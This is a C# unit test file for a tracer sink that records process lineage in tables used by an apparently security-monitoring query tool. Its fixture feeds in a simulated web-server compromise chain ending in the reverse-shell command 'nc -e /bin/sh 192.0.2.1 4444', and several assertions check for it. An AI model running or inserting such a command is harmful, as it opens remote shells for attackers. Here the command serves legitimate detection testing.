// SPDX-License-Identifier: Apache-2.0
using FarQuery.Core;
using FarQuery.Events.Tracing;
using FarQuery.Tables.Tests.Support;

namespace FarQuery.Tables.Tests.Events;

/// <summary>The lineage columns TracerSink adds to the three tracer tables (parent_name, parent_path, parent_cmdline,
/// ancestors; and name, cmdline, parent on socket and file rows), fed with the event sequences the tracer emits.</summary>
public sealed class TracerSinkTests
{
    // Pids above the kernel's hard limit (PID_MAX_LIMIT, 4194304), so the /proc fallback never finds a real process.
    private const long Root = 1_000_000_001;

    private static readonly long Now = DateTimeOffset.UtcNow.ToUnixTimeSeconds();

    private static ProcessEvent Fork(long pid, long parent, string name, string path, string cmdline) =>
        new() { Syscall = "fork", Pid = pid, Parent = parent, Name = name, Path = path, Cmdline = cmdline, Time = Now };

    private static ProcessEvent Exec(long pid, long parent, string name, string path, string cmdline) =>
        new() { Syscall = "execve", Pid = pid, Parent = parent, Name = name, Path = path, Cmdline = cmdline, Time = Now };

    /// <summary>root (httpd) → sh → a → b → c → d → e → nc.</summary>
    private static TracerSink Chain(TableContext context)
    {
        var sink = new TracerSink(context);
        sink.OnProcess(Exec(Root, -1, "httpd", "/usr/sbin/httpd", "httpd -DFOREGROUND"));
        sink.OnProcess(Fork(Root + 1, Root, "httpd", "/usr/sbin/httpd", "httpd -DFOREGROUND"));
        sink.OnProcess(Exec(Root + 1, Root, "sh", "/usr/bin/dash", "sh -c ./a"));
        var names = new[] { "a", "b", "c", "d", "e" };
        for (var i = 0; i < names.Length; i++)
        {
            sink.OnProcess(Exec(Root + 2 + i, Root + 1 + i, names[i], "/tmp/" + names[i], "./" + names[i]));
        }

        sink.OnProcess(Exec(Root + 7, Root + 6, "nc", "/usr/bin/nc", "nc -e /bin/sh 192.0.2.1 4444"));
        return sink;
    }

    [Fact]
    public void OnProcess_ExecBelowForkedShell_CarriesParentAndNearestFirstAncestors()
    {
        var context = new TableContext();
        Chain(context);
        using var host = TableAssert.Host(context);
        var sh = host.Query($"select parent_name, parent_path, parent_cmdline, ancestors from process_events where pid = {Root + 1} and syscall = 'execve'").Rows.Single();
        Assert.Equal(new object?[] { "httpd", "/usr/sbin/httpd", "httpd -DFOREGROUND", "httpd" }, sh);
        var nc = host.Query($"select parent_name, parent_cmdline, ancestors from process_events where pid = {Root + 7}").Rows.Single();
        Assert.Equal(new object?[] { "e", "./e", "e d c b a" }, nc);
    }

    [Fact]
    public void OnProcess_ParentExited_OrphanStillNamesIt()
    {
        var context = new TableContext();
        var sink = Chain(context);
        sink.OnProcess(new ProcessEvent { Syscall = "exit", Pid = Root + 6, Parent = Root + 5, Time = Now });
        sink.OnFile(new FileEvent { Operation = "open", Syscall = "openat", Pid = Root + 7, Ppid = Root + 6, Path = "/etc/x", Time = Now });
        using var host = TableAssert.Host(context);
        var row = host.Query("select name, cmdline, parent_name, ancestors from process_file_events").Rows.Single();
        Assert.Equal(new object?[] { "nc", "nc -e /bin/sh 192.0.2.1 4444", "e", "e d c b a" }, row);
    }

    [Fact]
    public void OnSocket_KnownProcess_CarriesNameCmdlineAndParent()
    {
        var context = new TableContext();
        var sink = Chain(context);
        sink.OnSocket(new SocketEvent { Action = "connect", Syscall = "connect", Pid = Root + 7, RemoteAddress = "192.0.2.1", RemotePort = 4444, Status = "in_progress", Time = Now });
        var result = TableAssert.SelectStarMatchesSpec("socket_events", context: context);
        Assert.Single(result.Rows);
        using var host = TableAssert.Host(context);
        var row = host.Query("select name, cmdline, parent, parent_name, parent_path, parent_cmdline from socket_events").Rows.Single();
        Assert.Equal(new object?[] { "nc", "nc -e /bin/sh 192.0.2.1 4444", Root + 6, "e", "/tmp/e", "./e" }, row);
    }

    [Fact]
    public void OnProcess_ParentNeverSeen_ReadFromProc()
    {
        // The app's first exec has the agent as its parent, which the tracer never saw start: /proc supplies it.
        var context = new TableContext();
        var sink = new TracerSink(context);
        var self = Environment.ProcessId;
        sink.OnProcess(Exec(Root, self, "sh", "/usr/bin/dash", "sh -c true"));
        using var host = TableAssert.Host(context);
        var row = host.Query("select parent_name, parent_cmdline, ancestors from process_events").Rows.Single();
        var comm = File.ReadAllText($"/proc/{self}/comm").TrimEnd('\n');
        Assert.Equal(comm, row[0]);
        Assert.False(string.IsNullOrEmpty((string?)row[1]));
        Assert.StartsWith(comm, (string?)row[2], StringComparison.Ordinal);
    }

    [Fact]
    public void OnSocket_UnknownProcess_LeavesLineageNull()
    {
        var context = new TableContext();
        var sink = new TracerSink(context);
        sink.OnSocket(new SocketEvent { Action = "socket", Syscall = "socket", Pid = Root + 99, Family = 17, Status = "succeeded", Time = Now });
        using var host = TableAssert.Host(context);
        var row = host.Query("select name, parent, parent_name, ancestors from socket_events").Rows.Single();
        Assert.Equal(new object?[] { null, -1L, null, null }, row);
    }

    [Fact]
    public void OnProcess_ManyShortLivedProcesses_ForgetsOldExitsKeepsRecentOnes()
    {
        var context = new TableContext();
        var sink = new TracerSink(context);
        const int Count = 20_000;
        for (var i = 0; i < Count; i++)
        {
            sink.OnProcess(Exec(Root + i, -1, "job", "/bin/job", "job " + i));
            sink.OnProcess(new ProcessEvent { Syscall = "exit", Pid = Root + i, Time = Now });
        }

        // Orphans of the first and of the last job exec afterwards: only the recent exit is still remembered.
        sink.OnProcess(Exec(Root + Count + 1, Root, "old", "/bin/old", "old"));
        sink.OnProcess(Exec(Root + Count + 2, Root + Count - 1, "new", "/bin/new", "new"));
        using var host = TableAssert.Host(context);
        Assert.Null(host.Query($"select parent_name from process_events where pid = {Root + Count + 1}").Rows.Single()[0]);
        Assert.Equal($"job {Count - 1}", host.Query($"select parent_cmdline from process_events where pid = {Root + Count + 2}").Rows.Single()[0]);
    }
}
